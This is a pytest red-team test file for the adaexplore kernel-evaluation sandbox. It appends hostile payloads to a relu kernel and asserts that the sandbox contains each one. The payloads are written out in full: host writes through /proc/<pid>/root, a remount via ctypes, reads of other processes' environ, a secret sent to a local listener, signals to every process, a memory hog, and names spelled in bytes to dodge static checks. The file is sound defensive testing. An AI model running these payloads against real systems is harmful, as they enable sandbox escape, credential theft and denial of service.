"""Issue 34's hostile kernels against the real binary: each appends an attack to a correct relu
kernel and runs it at import, under the gameable `kernelbench` profile (no static rejection, so
every attack really runs) with the sandbox on, as adaexplore runs by default. The kernels spell
/proc and their modules in bytes, as an attacker hiding from static checks would. Each test then
checks the host: nothing written outside, no secret anywhere in the results, no byte at the
listener, no frozen or killed run, no blame on the neighbour, nothing left in /dev/shm."""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import threading
from pathlib import Path
from typing import Any

import pytest

from conftest import Cli, example

SECRET = "sk-adx-redteam-4f1c9e27b3"
PASSWORD = "hunter2-adx-password-77"
# How each attack reaches what the static checks look for: names spelt in bytes.
PRELUDE = """
import os as _os
_P = bytes([47, 112, 114, 111, 99]).decode()
_C = __import__(bytes([99, 116, 121, 112, 101, 115]).decode())
_S = __import__(bytes([115, 111, 99, 107, 101, 116]).decode())
_SIG = __import__(bytes([115, 105, 103, 110, 97, 108]).decode())
def _pids():
    return [int(p) for p in _os.listdir(_P) if p.isdigit() and int(p) != _os.getpid()]
def _attempt(name, action):
    try:
        action()
        print("ATTACK", name, "done", flush=True)
    except Exception as e:
        print("ATTACK", name, "refused", type(e).__name__, flush=True)
"""


def _attacks(tmp: Path, port: int) -> dict[str, str]:
    target = tmp / "escaped"
    cache = tmp / "cache" / "adaexplore" / "eval-cache.sqlite"
    return {
        "proc_root_write.py": f"""
for _pid in _pids() + [1]:
    for _via in ("root", "cwd"):
        _attempt(f"write via {{_via}} of {{_pid}}", lambda: open(
            f"{{_P}}/{{_pid}}/{{_via}}{target}-{{_via}}", "w").write("x"))
""",
        "remount_write.py": f"""
_libc = _C.CDLL(None, use_errno=True)
def _remount():
    if _libc.mount(None, b"/", None, _C.c_ulong(32 | 4096), None) != 0:
        raise OSError(_C.get_errno(), "mount")
    open({str(target) + '-remount'!r}, "w").write("x")
_attempt("remount", _remount)
""",
        "forge_cache.py": f"""
def _forge():
    with open({str(cache)!r}, "r+b") as f:
        f.write(b"forged" * 100)
_attempt("forge the result cache", _forge)
""",
        "read_secrets.py": """
for _pid in _pids() + [1]:
    _attempt(f"environ of {_pid}", lambda: print(open(f"{_P}/{_pid}/environ", "rb").read()))
    _attempt(f"cmdline of {_pid}", lambda: print(open(f"{_P}/{_pid}/cmdline", "rb").read()))
""",
        "network.py": f"""
def _send():
    s = _S.socket(_S.AF_INET, _S.SOCK_STREAM)
    s.settimeout(3)
    s.connect(("127.0.0.1", {port}))
    s.sendall(b"{SECRET}")
_attempt("connect to the listener", _send)
""",
        "stop_everyone.py": """
for _pid in _pids() + [1]:
    _attempt(f"SIGSTOP {_pid}", lambda: _os.kill(_pid, _SIG.SIGSTOP))
    _attempt(f"SIGSEGV {_pid}", lambda: _os.kill(_pid, _SIG.SIGSEGV))
""",
        "memory_escape.py": """
if _os.fork() == 0:
    _os.setsid()
    _hog = bytearray(1400 << 20)
    for _i in range(0, len(_hog), 4096):
        _hog[_i] = 1
    import time as _t
    _t.sleep(60)
    _os._exit(0)
import time as _t
_t.sleep(8)
""",
        "shm_and_cache.py": f"""
_attempt("fill /dev/shm", lambda: open("/dev/shm/adx-redteam-{tmp.name}", "wb").write(
    b"x" * (100 << 20)))
def _cache():
    with open(_os.path.join(_os.environ["TRITON_CACHE_DIR"], "huge"), "wb") as f:
        f.truncate(600 << 20)
_attempt("grow the compiler cache", _cache)
""",
    }


@pytest.fixture(scope="module")
def attacked(request: pytest.FixtureRequest,
             tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One eval of every attack and two honest neighbours, with a listener up."""
    tmp = tmp_path_factory.mktemp("attacks")
    cli = Cli(request.config.getoption("--adaexplore-binary"), tmp)
    cli.env.update(OPENAI_API_KEY=SECRET, ADX_DB_PASSWORD=PASSWORD)
    if request.config.getoption("--sandbox-python"):
        cli.env["ADAEXPLORE_PYTHON"] = request.config.getoption("--sandbox-python")
    device = request.config.getoption("--sandbox-device")
    received: list[bytes] = []
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                received.append(conn.recv(4096))
            except OSError:
                pass
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    ok = Path(example("kernels", "relu", "ok.py")).read_text()
    args = ["--profile", "kernelbench", "--timed-runs", "2", "--warmup", "0", "--trials", "2",
            "--slots", "2", "--memory-limit-mb", "900", "--timeout", "120", "--no-cache",
            "--task", example("tasks", "relu.py")]
    kernels = tmp / "kernels"
    kernels.mkdir()
    for name, attack in _attacks(tmp, port).items():
        (kernels / name).write_text(ok + "\n" + PRELUDE + attack)
        args += ["--kernel", str(kernels / name)]
    for name in ("neighbour_a.py", "neighbour_b.py"):
        (kernels / name).write_text(ok + f"\n# {name}\n")
        args += ["--kernel", str(kernels / name)]
    # The result cache must exist for the forgery to have a target.
    (tmp / "cache" / "adaexplore").mkdir(parents=True, exist_ok=True)
    sqlite3.connect(tmp / "cache" / "adaexplore" / "eval-cache.sqlite").close()
    shm_before = set(os.listdir("/dev/shm"))
    p = cli.run("eval", "--device", device, "--json", *args, timeout=900)
    code = p.returncode
    results = {Path(r["kernel"]).name: r for r in map(json.loads, filter(
        str.strip, p.stdout.splitlines()))}
    stop.set()
    thread.join()
    listener.close()
    return {"code": code, "results": results, "received": received, "tmp": tmp,
            "shm_before": shm_before}


def _attacks_in(result: dict[str, Any]) -> list[str]:
    return [line for line in (result.get("stdout") or "").splitlines()
            if line.startswith("ATTACK")]


def test_the_run_is_neither_frozen_nor_killed_and_neighbours_keep_their_verdicts(
        attacked: dict[str, Any]) -> None:
    results = attacked["results"]
    assert attacked["code"] == 0 and len(results) == 10, list(results)
    for name in ("neighbour_a.py", "neighbour_b.py", "stop_everyone.py"):
        assert results[name]["verdict"] == "correct", results[name]
    stops = _attacks_in(results["stop_everyone.py"])
    # Its namespace's init (pid 1) is all it sees, and a signal from inside does not reach it.
    assert stops and all("refused" in line or line.split()[-2] == "1" for line in stops), stops


def test_nothing_is_written_outside_through_proc_or_a_remount(attacked: dict[str, Any]) -> None:
    tmp = attacked["tmp"]
    assert list(tmp.glob("escaped*")) == []
    for name in ("proc_root_write.py", "remount_write.py"):
        assert attacked["results"][name]["verdict"] == "correct"
        assert _attacks_in(attacked["results"][name])
        assert not any(" done" in line for line in _attacks_in(attacked["results"][name]))


def test_the_result_cache_is_out_of_reach(attacked: dict[str, Any]) -> None:
    lines = _attacks_in(attacked["results"]["forge_cache.py"])
    assert lines and all("refused" in line for line in lines), lines
    path = attacked["tmp"] / "cache" / "adaexplore" / "eval-cache.sqlite"
    assert b"forged" not in path.read_bytes()


def test_no_secret_in_any_result_and_no_byte_at_the_listener(attacked: dict[str, Any]) -> None:
    text = json.dumps(attacked["results"])
    assert SECRET not in text and PASSWORD not in text
    assert attacked["received"] == []
    lines = _attacks_in(attacked["results"]["network.py"])
    assert lines and "refused" in lines[0], lines


def test_memory_is_limited_over_the_whole_tree(attacked: dict[str, Any]) -> None:
    result = attacked["results"]["memory_escape.py"]
    assert result["verdict"] == "runtime_error", result
    assert "host memory above the limit" in result["reason"]


def test_nothing_is_left_in_shared_memory_or_the_caches(attacked: dict[str, Any]) -> None:
    assert attacked["results"]["shm_and_cache.py"]["verdict"] == "correct"
    leftovers = set(os.listdir("/dev/shm")) - attacked["shm_before"]
    assert not [n for n in leftovers if "adx-redteam" in n], leftovers
    caches = list(attacked["tmp"].glob("**/candidate-cache/*/triton/huge"))
    assert caches == []  # Scratch folders are gone, and an oversized cache with them.


def test_every_result_says_each_protection_was_in_force_and_held(attacked: dict[str, Any]) -> None:
    """As root, or as a user with no capability (then through a user namespace of its own)."""
    for name, result in attacked["results"].items():
        containment = result["details"]["containment"]
        for protection in ("pid_namespace", "network_namespace", "mount_view", "no_capabilities",
                           "no_new_privs", "landlock", "seccomp"):
            assert containment[protection] is True, (name, protection, containment)
        assert all(v.startswith("held") for v in containment["verified"].values()), containment
        if os.geteuid() != 0:
            assert containment["user_namespace"] is True, containment
